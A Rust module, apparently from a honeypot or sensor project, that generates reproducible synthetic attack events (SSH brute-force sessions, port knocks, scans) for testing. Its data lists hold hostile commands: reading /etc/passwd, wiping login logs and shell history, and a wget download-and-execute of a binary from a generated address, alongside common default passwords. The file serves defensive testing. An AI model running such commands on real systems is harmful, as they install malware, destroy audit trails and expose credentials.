//! Attacks that never happened: the same ones for the same seed, but for ids and times.

use std::{
    net::{IpAddr, Ipv4Addr, Ipv6Addr},
    time::Duration,
};

use fastrand::Rng;
use skep_model::{
    Encounter, Interaction, InteractionKind, LoginMethod, Timestamp, Transport, ids::EventId,
};
use skep_protocol::{message::InstanceConfiguration, part::Part};

/// Parts of one batch.
pub const BATCH: usize = 100;

/// The most parts of one event: opening, log-ins, commands, the last words and the end.
const LONGEST: usize = 3 + LOGINS + COMMANDS;
const LOGINS: usize = 4;
const COMMANDS: usize = 6;

const CLIENTS: [&str; 4] = [
    "SSH-2.0-Go",
    "SSH-2.0-libssh2_1.11.0",
    "SSH-2.0-OpenSSH_9.6p1",
    "SSH-2.0-PUTTY",
];
const USERS: [&str; 12] = [
    "root", "admin", "ubuntu", "pi", "oracle", "test", "postgres", "git", "user", "deploy",
    "hadoop", "ftpuser",
];
const PASSWORDS: [&str; 12] = [
    "123456",
    "password",
    "admin",
    "raspberry",
    "qwerty",
    "root",
    "P@ssw0rd",
    "letmein",
    "1qaz2wsx",
    "toor",
    "changeme",
    "welcome",
];
const LINES: [&str; 10] = [
    "uname -a",
    "id",
    "cat /proc/cpuinfo | grep name | head -n 1",
    "free -m | grep Mem | awk '{print $2 ,$3, $4}'",
    "ls -la /tmp /var/run /dev/shm",
    "ps aux | sort -rk 3,3 | head -n 5",
    "cat /etc/passwd",
    "crontab -l",
    "rm -rf /var/log/wtmp; history -c",
    "echo -e \"\\x6F\\x6B\"",
];
const PORTS: [u16; 10] = [21, 23, 80, 443, 445, 1433, 3306, 3389, 5900, 8080];
const PAYLOADS: [&[u8]; 4] = [
    b"GET / HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n\r\n",
    b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00",
    b"\x16\x03\x01\x00\xca\x01\x00\x00\xc6\x03\x03\xd3\x5f\x9a\x11\x00\xff\xfe",
    b"*1\r\n$4\r\nINFO\r\n",
];

/// The instances of a sensor that are attacked.
#[derive(Clone, Debug)]
pub struct Targets {
    /// Its ssh.
    pub ssh: InstanceConfiguration,
    /// Its catch-all.
    pub catch_all: InstanceConfiguration,
}

/// A stream of attacks.
#[derive(Debug)]
pub struct Attacks {
    random: Rng,
    sources: u64,
}

impl Attacks {
    /// Attacks from at most `sources` addresses, some of which come much more often than others.
    #[must_use]
    pub fn new(seed: u64, sources: u64) -> Self {
        Self {
            random: Rng::with_seed(seed),
            sources: sources.max(1),
        }
    }

    /// The parts of the next event, from its opening to its end: an ssh session, a knock or a scan.
    pub fn event(&mut self, targets: &Targets, at: Timestamp) -> Vec<Part> {
        match self.random.u8(..10) {
            0..6 => self.ssh_session(&targets.ssh, at),
            6..9 => {
                let parts = self.random.usize(2..=3);
                self.knock(&targets.catch_all, at, parts)
            }
            _ => self.scan(&targets.catch_all, at),
        }
    }

    /// The parts of whole events that fill a batch of [`BATCH`] to the last place, and how many events they are.
    pub fn batch(&mut self, targets: &Targets, at: Timestamp) -> (Vec<Part>, usize) {
        let mut parts = Vec::with_capacity(BATCH);
        let mut events = 0;
        while parts.len() < BATCH {
            let room = BATCH - parts.len();
            let at = at.after(Duration::from_millis(self.random.u64(..1000)));
            parts.extend(if room > LONGEST + 1 {
                self.event(targets, at)
            } else {
                self.knock(&targets.catch_all, at, 2 + room % 2)
            });
            events += 1;
        }
        (parts, events)
    }

    fn ssh_session(&mut self, target: &InstanceConfiguration, at: Timestamp) -> Vec<Part> {
        let banner = InteractionKind::Banner {
            text: self.one_of(&CLIENTS).into(),
        };
        let mut session = self.open(target, 22, at, vec![InteractionKind::Connect, banner]);
        let let_in = self.random.u8(..4) == 0;
        let tries = self.random.usize(1..=LOGINS);
        for number in 1..=tries {
            let secret = if self.random.bool() {
                self.one_of(&PASSWORDS).to_owned()
            } else {
                format!("{}{}", self.one_of(&PASSWORDS), self.random.u16(..2000))
            };
            session.extend(vec![InteractionKind::Login {
                user: self.one_of(&USERS).into(),
                secret: secret.into(),
                method: LoginMethod::Password,
                accepted: let_in && number == tries,
            }]);
        }
        if let_in {
            for _ in 0..self.random.usize(1..=COMMANDS) {
                session.extend(self.command());
            }
        }
        session.close("the client left")
    }

    fn command(&mut self) -> Vec<InteractionKind> {
        if self.random.u8(..6) > 0 {
            let line = self.one_of(&LINES).into();
            return vec![InteractionKind::Command {
                line,
                protocol: false,
            }];
        }
        let url = format!("http://{}/bins/x86_{}", self.address(), self.random.u8(..));
        let line = format!("cd /tmp && wget {url} -O .x && chmod +x .x && ./.x");
        vec![
            InteractionKind::Command {
                line: line.into(),
                protocol: false,
            },
            InteractionKind::Attribute {
                name: InteractionKind::URL.to_owned(),
                value: url.into(),
            },
        ]
    }

    /// One port, in two parts, or in three when something is said.
    fn knock(&mut self, target: &InstanceConfiguration, at: Timestamp, parts: usize) -> Vec<Part> {
        let port = self.one_of(&PORTS);
        let mut session = self.open(target, port, at, vec![probe(port)]);
        if parts > 2 {
            session.extend(vec![InteractionKind::Probe {
                port,
                transport: Transport::Tcp,
                flags: None,
                payload: self.one_of(&PAYLOADS).into(),
                repeated: true,
            }]);
        }
        session.end()
    }

    fn scan(&mut self, target: &InstanceConfiguration, at: Timestamp) -> Vec<Part> {
        let mut session = self.open(target, PORTS[0], at, vec![probe(PORTS[0])]);
        session.extend(PORTS[1..].iter().map(|port| probe(*port)).collect());
        session.end()
    }

    fn open(
        &mut self,
        target: &InstanceConfiguration,
        port: u16,
        at: Timestamp,
        first: Vec<InteractionKind>,
    ) -> Session {
        let encounter = Encounter {
            service: target.service.clone(),
            instance: target.id,
            revision: target.revision,
            source: self.address().into(),
            source_port: self.random.u16(1024..),
            target_port: port,
            transport: Transport::Tcp,
        };
        let mut session = Session {
            event: EventId::new(),
            opened: at,
            at,
            next: 0,
            parts: vec![],
        };
        let interactions = session.steps(first);
        session.parts.push(Part::Open {
            event: session.event,
            at,
            encounter,
            interactions,
        });
        session
    }

    /// One of the sources; the square makes a few of them come often and most of them rarely.
    fn address(&mut self) -> IpAddr {
        let place = self.random.f64();
        let number = (place * place * self.sources as f64) as u64;
        let mut bytes = Rng::with_seed(number);
        if bytes.u8(..8) == 0 {
            let low = u128::from(bytes.u64(..));
            return Ipv6Addr::from((0x2001_0db8_u128 << 96) | low).into();
        }
        Ipv4Addr::new(
            bytes.u8(11..127),
            bytes.u8(..),
            bytes.u8(..),
            bytes.u8(1..255),
        )
        .into()
    }

    fn one_of<T: Copy>(&mut self, choice: &[T]) -> T {
        choice[self.random.usize(..choice.len())]
    }
}

fn probe(port: u16) -> InteractionKind {
    InteractionKind::Probe {
        port,
        transport: Transport::Tcp,
        flags: None,
        payload: Vec::new().into(),
        repeated: false,
    }
}

/// An event that grows part by part.
struct Session {
    event: EventId,
    opened: Timestamp,
    at: Timestamp,
    next: u32,
    parts: Vec<Part>,
}

impl Session {
    fn steps(&mut self, kinds: Vec<InteractionKind>) -> Vec<Interaction> {
        self.next += kinds.len() as u32;
        kinds
            .into_iter()
            .map(|kind| {
                self.at = self.at.after(Duration::from_millis(40));
                Interaction { at: self.at, kind }
            })
            .collect()
    }

    fn extend(&mut self, kinds: Vec<InteractionKind>) {
        let first = self.next;
        let interactions = self.steps(kinds);
        self.parts.push(Part::Extend {
            event: self.event,
            first,
            interactions,
        });
    }

    fn close(mut self, reason: &str) -> Vec<Part> {
        let duration = self.at - self.opened;
        self.extend(vec![InteractionKind::Close {
            reason: reason.to_owned(),
            duration,
        }]);
        self.end()
    }

    fn end(mut self) -> Vec<Part> {
        self.parts.push(Part::Close {
            event: self.event,
            at: self.at,
        });
        self.parts
    }
}
